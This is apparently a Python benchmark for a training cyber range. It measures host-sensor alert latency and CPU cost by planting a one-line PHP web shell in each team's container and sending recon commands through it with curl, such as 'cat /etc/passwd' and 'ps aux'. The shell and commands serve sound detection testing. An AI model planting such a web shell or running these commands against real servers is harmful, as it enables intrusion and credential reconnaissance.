"""Live host sensor: host event -> alert latency, and what collection costs per team.

Brings gov-office up for ``--teams`` teams on the real Docker range, starts the session's host
sensor as the live range does (``python -m range.events.hostsensor``, its own process), and for
``--seconds`` drives every team's portal the way an intruder drives a web shell: a command every
``--interval`` seconds through a PHP shell (real php-fpm, real processes in the team's container),
and a client that is no SSH client at the file server every 5 seconds (sshd's line through the
node's rsyslog). A live detector per team with the reference rule on the web shell's processes
(``lnx_webshell_recon``, its alert window shortened so each command raises its own alert) polls
every half second, as the session driver does.

Reports:
  * latency: from sending the command to the alert returned by the detector (the process's
    audit record, the sensor's batch and watermark, the detector's poll): p50, p95, max;
  * cost: the host sensor's CPU time (user + system, from /proc) over the run, as a share of one
    core per team, beside one network sensor's (dumpcap + tshark + its writer) on the same
    team's watched network over the same time, as the live range runs it.

Usage: .venv/bin/python bench/host_live.py [--teams 2] [--seconds 60] [--interval 2] [--write]
Needs root and the Docker Engine (the images are built if they are missing).
"""
from __future__ import annotations

import argparse
import io
import os
import signal
import statistics
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(ROOT / "bench"))

from mdsection import write_section  # noqa: E402
from timing import p95  # noqa: E402

from range.detect import Detector, load_rules  # noqa: E402
from range.runtime import bridges, container, down, netns_path, up  # noqa: E402
from range.topology import load_environment  # noqa: E402

SESSION = "bench-hostlive"
SHELL = b'<?php system($_REQUEST["cmd"]); ?>\n'
COMMANDS = ["id", "uname -a", "cat /etc/passwd", "ps aux", "hostname", "ss -tlnp"]
RULE = ROOT / "detections" / "rules" / "lnx_webshell_recon.yml"


def cpu(pid: int) -> float:
    """CPU seconds (user + system) of a process and its children that ended, from /proc."""
    f = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    return sum(int(x) for x in f[11:15]) / os.sysconf("SC_CLK_TCK")


def tree_cpu(pid: int) -> float:
    """CPU seconds of a process and its live descendants."""
    total = cpu(pid)
    for child in Path(f"/proc/{pid}/task/{pid}/children").read_text().split():
        try:
            total += tree_cpu(int(child))
        except OSError:
            pass
    return total


def plant(team: str) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        info = tarfile.TarInfo("bench.php")
        info.size, info.mode = len(SHELL), 0o644
        tar.addfile(info, io.BytesIO(SHELL))
    container(SESSION, team, "web").put_archive("/var/www/portal/uploads", buf.getvalue())


def drive(team: str, web_ip: str, files_ip: str, seconds: float, interval: float, sent: list) -> None:
    """The intruder's side, from the team's attacker namespace."""
    ns = netns_path(SESSION, team, "attacker")
    end, i, next_ssh = time.time() + seconds, 0, 0.0
    while time.time() < end:
        cmd = f"{COMMANDS[i % len(COMMANDS)]} #{team}-{i}"
        sent.append((team, cmd, time.time()))
        subprocess.run(["nsenter", f"--net={ns}", "curl", "-s", "-m", "5", "-o", "/dev/null", "--get",
                        "--data-urlencode", f"cmd={cmd}", f"http://{web_ip}/uploads/bench.php"], check=False)
        if time.time() >= next_ssh:
            subprocess.run(["nsenter", f"--net={ns}", sys.executable, "-c",
                            f"import socket; s = socket.create_connection(({files_ip!r}, 22), timeout=3); "
                            "s.recv(99); s.sendall(b'nope\\r\\n')"], check=False, capture_output=True)
            next_ssh = time.time() + 5
        i += 1
        time.sleep(max(0.0, interval - 0.05))


def detect(team: str, db: Path, stop: threading.Event, raised: list) -> None:
    rules = load_rules([RULE], window=0.05)
    while not db.exists():
        time.sleep(0.1)
    with Detector(rules, db) as det:
        while not stop.is_set():
            for a in det.poll_seen():
                # the command's own process names its tag in the shell that started it
                cmds = {e.get(f) or "" for e in a["events"] for f in ("CommandLine", "ParentCommandLine")}
                raised.append((team, cmds, time.time()))
            time.sleep(0.5)


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--teams", type=int, default=2)
    ap.add_argument("--seconds", type=float, default=60)
    ap.add_argument("--interval", type=float, default=2.0)
    ap.add_argument("--write", action="store_true", help="write the figures into BENCHMARKS.md")
    a = ap.parse_args()
    teams = [f"t{i + 1}" for i in range(a.teams)]
    env = load_environment(ROOT / "environments" / "gov-office" / "environment.yaml")
    down(SESSION)
    sess = up(env, SESSION, teams, seed=7)
    work = Path(tempfile.mkdtemp(prefix="cr-hostlive-"))
    stores = {t: work / f"{t}.db" for t in teams}
    stop, raised, sent = threading.Event(), [], []
    sensor = net = None
    try:
        sensor = subprocess.Popen([sys.executable, "-m", "range.events.hostsensor", "--session", SESSION, "--status",
                                   str(work / "status.json"), *[f"--store={t}={p}" for t, p in stores.items()],
                                   "--skip=attacker"], start_new_session=True)
        lan = bridges(SESSION)[teams[0]][env.spec.sensor.networks[0]]
        net = subprocess.Popen([sys.executable, "-m", "range.events.capture", "--iface", lan, "--db",
                                str(work / "net.db"), "--ring", str(work / "ring"), "--status", str(work / "net.json")],
                               start_new_session=True)
        for t in teams:
            plant(t)
        detectors = [threading.Thread(target=detect, args=(t, stores[t], stop, raised), daemon=True) for t in teams]
        for d in detectors:
            d.start()
        time.sleep(3.0)
        c0, n0, w0 = tree_cpu(sensor.pid), tree_cpu(net.pid), time.time()
        drivers = [threading.Thread(target=drive, args=(t, sess.teams[t].layout.host("web").ip,
                                                        sess.teams[t].layout.host("files").ip, a.seconds,
                                                        a.interval, sent)) for t in teams]
        for d in drivers:
            d.start()
        for d in drivers:
            d.join()
        time.sleep(3.0)
        c1, n1, w1 = tree_cpu(sensor.pid), tree_cpu(net.pid), time.time()
        stop.set()
        for d in detectors:
            d.join(10)
    finally:
        for p in (sensor, net):
            if p is not None:
                os.killpg(p.pid, signal.SIGINT)
                p.wait(30)
        down(SESSION)
    report(a, teams, sent, raised, (c1 - c0) / (w1 - w0), (n1 - n0) / (w1 - w0), work)


def report(a, teams, sent, raised, host_share, net_share, work) -> None:
    lat = []
    for team, cmd, t in sent:
        hit = [r for tm, cmds, r in raised if tm == team and any(cmd in c for c in cmds)]
        if hit:
            lat.append(min(hit) - t)
    per_team = host_share / len(teams)
    import json
    st = json.loads((work / "status.json").read_text())
    body = (f"Command: `.venv/bin/python bench/host_live.py --teams {a.teams} --seconds {a.seconds:g} --interval "
            f"{a.interval:g} --write`\n\n"
            f"gov-office, {len(teams)} teams; per team a web shell command every {a.interval:g} s through the real "
            f"portal (php-fpm starts `sh -c` and the command in the team's container) and a refused SSH client "
            f"every 5 s (sshd's line through the node's rsyslog), for {a.seconds:g} s.\n\n"
            f"| measure | value | goal |\n| --- | --- | --- |\n"
            f"| commands sent / detected | {len(sent)} / {len(lat)} | all |\n"
            f"| command sent → alert returned by the live detector, p50 | {statistics.median(lat):.2f} s | |\n"
            f"| … p95 | {p95(lat):.2f} s | ≤ 2 s |\n"
            f"| … max | {max(lat):.2f} s | |\n"
            f"| host sensor CPU, share of one core per team | {per_team * 100:.2f}% | ≤ 5% |\n"
            f"| host sensor CPU, whole (all teams; every audit record of the machine read) | "
            f"{host_share * 100:.2f}% | |\n"
            f"| beside it: one network sensor (dumpcap + tshark + writer) on team {teams[0]}'s watched network | "
            f"{net_share * 100:.2f}% | |\n"
            f"| host records written / audit events read / log lines | {st['records']:,} / {st['events']:,} / "
            f"{st['log_lines']:,} | |\n"
            f"| events of the range's own (docker exec) left out / lost / sampled | {st['ignored']} / {st['lost']} / "
            f"{sum(st['sampled'].values())} | 0 lost |\n")
    print(body)
    if a.write:
        write_section(ROOT / "BENCHMARKS.md", "host-live", "Live host sensor: latency and cost (issue 13)", body)


if __name__ == "__main__":
    main()
